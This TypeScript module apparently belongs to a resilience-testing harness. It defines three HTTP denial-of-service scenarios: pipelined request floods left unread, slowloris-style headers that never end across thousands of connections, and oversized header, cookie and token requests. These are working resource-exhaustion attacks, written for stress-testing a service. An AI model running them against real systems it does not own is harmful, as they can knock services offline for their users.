import type { Attack } from './attack.ts'
import { headOf, requestOf } from './requests.ts'

const kilobyte = 1000
/** What one read of the service takes, many times over. */
const pipelined = 20_000
const openPaths = ['/healthz', '/integrations', '/no/such/path', '/r/nothing', '/api/v1/account', '/docs']

/** Requests without an end on each connection, of whose answers none is read; and as many as may be unanswered, which are read. */
export const pipelining: Attack = {
  name: 'pipelining',
  words: '100 connections of 4 addresses with 20,000 requests each in one piece, unread, and 20 with 30 each, read',
  kind: 'whole',
  async play(stage, { connect, send, ask, closed, lanes }) {
    const floods = openPaths.map((path) => Buffer.concat(Array(pipelined).fill(requestOf(stage, path))))
    const unread = lanes(100, async (lane) => {
      const socket = await connect(lane % 4)
      socket.pause()
      await send(socket, floods[lane % floods.length] as Buffer, pipelined)
      await closed(socket, 2000)
      socket.destroy()
    })
    const [key] = stage.crew.keys
    const read = lanes(20, async (lane) => {
      const socket = await connect(lane % 4)
      const one = requestOf(stage, '/api/v1/families', { key })
      for (let round = 0; round < 100 && !socket.destroyed; round += 1) await ask(socket, Buffer.concat(Array(30).fill(one)))
      socket.destroy()
    })
    await Promise.all([unread, read])
  },
}

const addresses = 12
const connectionsEach = 1000

/** Headers that never end, as many as a listener has room for, each as long as headers may be and coming a little at a time. */
export const openHeaders: Attack = {
  name: 'open-headers',
  words: `${addresses} addresses with ${connectionsEach} connections each, on which 15 kB of headers come and never end`,
  kind: 'whole',
  async play(stage, { connect, send, closed, lanes }) {
    const begun = headOf(stage, '/api/v1/account', { headers: { 'x-long': 'a'.repeat(15 * kilobyte) } }).slice(0, -2)
    await lanes(addresses * connectionsEach, async (lane) => {
      const socket = await connect(lane % addresses)
      await send(socket, begun)
      while (!socket.destroyed) {
        await closed(socket, 5000)
        if (!socket.destroyed) socket.write('X-More: 1\r\n')
      }
    })
  },
}

/** Requests that are all headers: as many of them as a request may have, or as long as they may be. */
export const longHeaders: Attack = {
  name: 'long-headers',
  words: '50 connections of 4 addresses that send requests with 1,900 headers or 15 kB of cookies, one after the other',
  kind: 'whole',
  async play(stage, { connect, ask, lanes }) {
    const many = Object.fromEntries(Array.from({ length: 1900 }, (_, index) => [`x${index}`, '1']))
    const cookie = Array.from({ length: 1000 }, (_, index) => `c${index}=${index}`).join('; ')
    const requests = [
      requestOf(stage, '/api/v1/account', { headers: many }),
      requestOf(stage, '/api/v1/account', { headers: { authorization: `Bearer ${'a'.repeat(15 * kilobyte)}` } }),
      requestOf(stage, '/graphql', { method: 'POST', session: cookie, headers: { 'content-type': 'application/json' }, body: '{}' }),
      requestOf(stage, `/r/${'a'.repeat(15 * kilobyte)}`),
    ]
    await lanes(50, async (lane) => {
      const socket = await connect(lane % 4)
      while (!socket.destroyed) await ask(socket, requests[lane % requests.length] as Buffer)
    })
  },
}
